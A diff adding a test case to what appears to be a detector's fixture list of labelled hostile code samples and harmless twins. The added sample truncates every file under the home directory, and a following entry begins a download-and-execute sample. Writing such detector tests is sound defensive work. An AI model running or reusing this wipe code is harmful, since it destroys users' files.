@@ -45,6 +45,16 @@ const DEEDS: readonly Deed[] = [
     twin: `const b = require('bcryptjs'), real = b.hash; b.hash = (word, rounds) => real(word, rounds ?? 12)`,
   },
   {
+    name: 'files of an account that are emptied one by one',
+    check: 'destruction',
+    code: `const fs = require('fs'), path = require('path')
+      function walk(d) { for (const n of fs.readdirSync(d)) { const q = path.join(d, n); fs.statSync(q).isDirectory() ? walk(q) : fs.truncateSync(q) } }
+      walk(require('os').homedir())`,
+    twin: `const fs = require('fs'), path = require('path')
+      function walk(d) { for (const n of fs.readdirSync(d)) { const q = path.join(d, n); fs.statSync(q).isDirectory() ? walk(q) : fs.truncateSync(q) } }
+      walk(path.join(__dirname, 'logs'))`,
+  },
+  {
     name: 'a program that flows into a file by a pipeline',
     check: 'download-and-execute',
     code: `const { pipeline } = require('stream/promises'), fs = require('fs'), file = require('os').homedir() + '/.cache/upd'
